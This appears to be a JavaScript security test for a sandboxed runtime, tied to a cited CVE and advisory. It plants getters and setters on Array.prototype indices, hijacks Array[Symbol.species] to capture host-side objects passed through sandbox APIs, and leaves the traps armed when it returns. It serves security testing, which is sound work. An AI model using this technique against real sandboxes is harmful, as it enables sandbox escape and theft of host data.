// Setters on Array.prototype[N] and array species that return something else: writes of ours into
// our own lists are seen (CVE-2026-44008, GHSA-grj5-jjm8-h35p).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const trapped = Array.from({ length: 40 }, (_, index) => index);
  const { species } = Symbol;
  const mine = new Set();
  const arm = () => {
    for (const index of trapped) {
      Object.defineProperty(Array.prototype, index, {
        configurable: true,
        get() { bag.take(this); },
        set(value) { bag.take(this, value); Object.defineProperty(this, index, { value, writable: true, enumerable: true, configurable: true }); },
      });
    }
    Object.defineProperty(Array, species, { configurable: true, get: () => function () { bag.take(this); return mine; } });
  };
  const disarm = () => {
    for (const index of trapped) delete Array.prototype[index];
    Object.defineProperty(Array, species, { configurable: true, get() { return this; } });
  };
  const calls = [
    () => echo([1, { a: [2] }]), () => echoSync([1, 2, 3]), () => failSync(1), () => console.log([1, 2], 'x', { a: 1 }), () => console.table([[1], [2]]),
    () => artifacts.write('a', new Uint8Array([1, 2])), () => progress(0.2, 'x'), () => new URL('http://h/?a=1').searchParams.getAll('a'),
    () => structuredClone([1, [2]]), () => require('./missing.js'), () => new TextEncoder().encode('abc'), () => setTimeout(() => 1, 0, 1, 2, 3),
  ];
  for (const call of calls) {
    arm();
    let result;
    try {
      result = call();
    } catch (error) {
      result = error;
    }
    disarm();
    try {
      bag.take(await result);
    } catch (error) {
      bag.take(error);
    }
  }
  const report = plunder(bag.values(), params);
  arm();
  return report;
}
